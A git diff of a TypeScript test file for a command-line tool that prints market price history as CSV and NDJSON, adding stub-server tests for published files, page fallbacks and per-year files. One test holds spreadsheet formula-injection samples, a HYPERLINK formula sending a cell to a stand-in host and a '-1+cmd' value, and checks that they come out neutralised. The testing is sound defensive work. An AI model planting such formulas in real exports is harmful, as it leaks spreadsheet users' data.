@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type ServerProcess, startServer } from '../embedded/server-process.ts';
 import { market, price } from '../publisher/world.ts';
 import { makeTemporaryFolder } from '../storage/temporary-folder.ts';
+import { json, type Reply, refusal, stubServer } from './stub-server.ts';
 import { type Run, tidemark, tidemarkOnTerminal } from './tidemark.ts';
 
 let temporary: Awaited<ReturnType<typeof makeTemporaryFolder>>;
@@ -14,7 +15,7 @@ let url: string;
 beforeAll(async () => {
   temporary = await makeTemporaryFolder();
   data = join(temporary.folder, 'data');
-  server = startServer({ TIDEMARK_DATA: data });
+  server = startServer({ TIDEMARK_DATA: data, TIDEMARK_PROJECTIONS: 'log,history-files' });
   url = await server.started;
 });
 
@@ -72,8 +73,8 @@ describe('markets', () => {
     expect(await run('markets', 'show', '../snapshot')).toMatchObject({ code: 3, output: '' });
   });
 
-  test('history --csv, --ndjson and --json have every observation', async () => {
-    const csv = linesOf(await run('markets', 'history', 'gold-usd', '--csv'));
+  test('history --versions and --json have every observation', async () => {
+    const csv = linesOf(await run('markets', 'history', 'gold-usd', '--csv', '--versions'));
     expect(csv).toHaveLength(58);
     expect(csv[0]).toMatch(/^observedAt,metric,decimal,currency,/);
     const columns = csv[0]?.split(',') ?? [];
@@ -82,11 +83,58 @@ describe('markets', () => {
     );
     expect(csv[1]?.split(',')[columns.indexOf('minorDigits')]).toBe('2');
     expect(csv[1]).toMatch(/^2026-09-29T00:00:00Z,price,4129\.10,USD,4129\.10,412910,/);
-    const ndjson = linesOf(await run('markets', 'history', 'gold-usd', '--ndjson')).map(
+    const ndjson = linesOf(await run('markets', 'history', 'gold-usd', '--ndjson', '--versions')).map(
       (line) => JSON.parse(line) as unknown,
     );
     expect(ndjson).toHaveLength(57);
     expect(JSON.parse((await run('markets', 'history', 'gold-usd', '--json')).output)).toEqual(ndjson);
+  });
+});
+
+describe('history --csv and --ndjson', () => {
+  const path = (rest: string) => `/api/v1/markets/gold-usd/history${rest}`;
+  const fileOf = async (rest: string) => (await fetch(url + path(rest))).text();
+
+  /** Answers as the server does, except where the test says otherwise. */
+  async function serverWith(otherwise: Readonly<Record<string, Reply>>) {
+    return await stubServer(async (request, response) => {
+      const other = otherwise[request.url];
+      if (other !== undefined) return other(request, response);
+      const answer = await fetch(url + request.url);
+      response.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? '' });
+      response.end(Buffer.from(await answer.arrayBuffer()));
+    });
+  }
+  const printed = async (url: string, form: string) => {
+    const { code, output, errors } = await tidemark(['markets', 'history', 'gold-usd', form, '--url', url]);
+    expect([code, errors]).toEqual([0, '']);
+    return output;
+  };
+  const missing = refusal('not-found');
+  const tooLong = (...years: readonly string[]) =>
+    json({ code: 'history-too-long', instead: years.map((year) => path(`/${year}.csv`)) }, 410);
+
+  test.each(['csv', 'ndjson'])('print the published %s file, byte for byte', async (format) => {
+    const stub = await serverWith({});
+    expect(await printed(stub.url, `--${format}`)).toBe(await fileOf(`.${format}`));
+    expect(stub.seen.map((request) => request.url)).toEqual([path(`.${format}`)]);
+  });
+
+  test.each(['csv', 'ndjson'])('make the same bytes from pages where there is no %s file', async (format) => {
+    const stub = await serverWith({ [path(`.${format}`)]: missing });
+    expect(await printed(stub.url, `--${format}`)).toBe(await fileOf(`.${format}`));
+  });
+
+  test('print the files of the years if the whole is too long, and the pages of a year that is too long', async () => {
+    const stub = await serverWith({ [path('.csv')]: tooLong('2024', '2025', '2026'), [path('/2026.csv')]: tooLong() });
+    expect(await printed(stub.url, '--csv')).toBe(await fileOf('.csv'));
+    expect(stub.seen.map((request) => request.url)).toContain(path('/2025.csv'));
+  });
+
+  test('say that a market is unknown, and print nothing', async () => {
+    const { code, output, errors } = await run('markets', 'history', 'nowhere', '--csv');
+    expect([code, output, errors.includes('404 not-found')]).toEqual([3, '', true]);
+    expect((await run('markets', 'history', 'gold-usd', '--versions')).code).toBe(2);
   });
 });
 
@@ -123,7 +171,7 @@ test('history --csv gives texts that a spreadsheet would take for formulas an ap
   const records = values.map((record, index) => ({ ...(record as object), sourceLabel: labels[index] }));
   const taken = await ingest([market('formulas'), ...records]);
   expect(taken.code, taken.errors).toBe(0);
-  const [, newest = '', first = ''] = linesOf(await run('markets', 'history', 'formulas', '--csv'));
+  const [, first = '', newest = ''] = linesOf(await run('markets', 'history', 'formulas', '--csv'));
   expect(first).toMatch(/^[^,]+,price,-36\.98,USD,-36\.98,-3698,/);
   expect(first).toContain(`,"'=HYPERLINK(""https://x.example?""&A1)",https://`);
   expect(newest).toContain(",'-1+cmd,https://");
